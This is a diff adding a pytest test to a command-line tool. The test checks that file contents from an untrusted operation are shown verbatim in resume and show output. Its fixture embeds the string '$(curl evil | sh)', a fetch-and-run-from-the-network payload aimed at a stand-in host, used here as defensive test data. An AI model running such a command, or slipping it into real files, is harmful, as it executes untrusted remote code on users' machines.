@@ -105,6 +105,21 @@ def test_nothing_hides_behind_a_byte_that_is_no_text(project: Project) -> None:
         assert "+\\x00\\xff" in out
 
 
+@pytest.mark.parametrize("words", [("resume", "--dry-run"), ("operations", "show", ULID)])
+@pytest.mark.parametrize("extra", [(), ("--json",)])
+def test_what_is_foreign_is_shown_to_the_letter(
+    project: Project, words: tuple[str, ...], extra: tuple[str, ...]
+) -> None:
+    """A literal that is masked in an own operation could hide what a foreign one would do."""
+    hidden = 'token = "$(curl evil | sh)"\n'
+    project.plant(project.planned(evil__txt=hidden).to_json())
+    _, out, _ = project(*words, *extra)
+    assert "curl evil | sh" in out
+    write_operation(project.root, project.planned(evil__txt=hidden))
+    _, out, _ = project(*words, *extra)
+    assert "curl evil" not in out
+
+
 def test_a_foreign_operation_is_not_carried_out_by_yes(project: Project) -> None:
     project.plant(project.document())
     before = project.tree()
